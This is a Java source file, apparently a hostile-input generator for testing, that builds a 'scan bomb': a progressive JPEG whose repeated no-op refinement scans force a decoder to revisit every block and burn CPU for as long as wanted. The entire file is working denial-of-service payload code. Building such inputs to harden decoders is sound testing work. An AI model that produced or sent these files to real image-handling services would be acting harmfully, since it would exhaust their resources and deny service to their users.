package org.attendansee.local.badinput;

import java.util.Arrays;

/**
 * A progressive JPEG of one colour that says next to nothing, over and over: each of its scans refines every block of
 * the picture and changes none, for which a decoder has to visit them all. A few kilobytes keep it busy for as long as
 * one likes.
 *
 * @param width in pixels
 * @param height in pixels
 * @param refinements how often all of the picture is refined
 */
public record ScanBomb(int width, int height, int refinements) {

    private static final int BLOCK = 8;
    private static final int LONGEST_RUN = 32_767;

    /** Of the code whose only symbol is a run of 2^14 blocks and 14 bits more. */
    private static final byte RUN = (byte) 0xe0;

    public byte[] toJpeg() {
        Bytes file = new Bytes()
                .add((byte) 0xff, (byte) 0xd8)
                .add(Jpeg.segment(0xdb, quantization()))
                .add(Jpeg.segment(
                        0xc2,
                        new Bytes()
                                .add((byte) 8)
                                .int16(height)
                                .int16(width)
                                .add((byte) 1, (byte) 1, (byte) 0x11, (byte) 0)
                                .toArray()))
                .add(Jpeg.segment(0xc4, codeOfOnly(0x00, (byte) 0)))
                .add(Jpeg.segment(0xc4, codeOfOnly(0x10, RUN)))
                .add(scan(0, 0, 0x00))
                .add(new byte[(blocks() + 7) / 8]);
        byte[] refinement = Bytes.concat(scan(1, 63, 0x10), runs());
        for (int i = 0; i < refinements; i++) {
            file.add(refinement);
        }
        return file.add((byte) 0xff, (byte) 0xd9).toArray();
    }

    private int blocks() {
        return ((width + BLOCK - 1) / BLOCK) * ((height + BLOCK - 1) / BLOCK);
    }

    private static byte[] quantization() {
        byte[] table = new byte[65];
        Arrays.fill(table, 1, table.length, (byte) 1);
        return table;
    }

    /** The code in which one symbol takes one bit, 0. */
    private static byte[] codeOfOnly(int table, byte symbol) {
        byte[] lengths = new byte[16];
        lengths[0] = 1;
        return new Bytes().add((byte) table).add(lengths).add(symbol).toArray();
    }

    private static byte[] scan(int first, int last, int bits) {
        return Jpeg.segment(0xda, new byte[] {1, 1, 0, (byte) first, (byte) last, (byte) bits});
    }

    /** Runs of blocks in which nothing changes, 15 bits each: a 0 and fourteen 1s. */
    private byte[] runs() {
        Bytes runs = new Bytes();
        int pending = 0;
        int count = 0;
        for (int run = 0; run <= blocks() / LONGEST_RUN; run++) {
            for (int bit = 0; bit < 15; bit++) {
                pending = pending << 1 | (bit == 0 ? 0 : 1);
                count++;
                if (count == 8) {
                    add(runs, pending);
                    pending = 0;
                    count = 0;
                }
            }
        }
        if (count > 0) {
            add(runs, pending << 8 - count | (1 << 8 - count) - 1);
        }
        return runs.toArray();
    }

    /** A byte of all ones would begin a marker if it stood alone. */
    private static void add(Bytes runs, int value) {
        runs.add((byte) value);
        if ((value & 0xff) == 0xff) {
            runs.add((byte) 0);
        }
    }
}
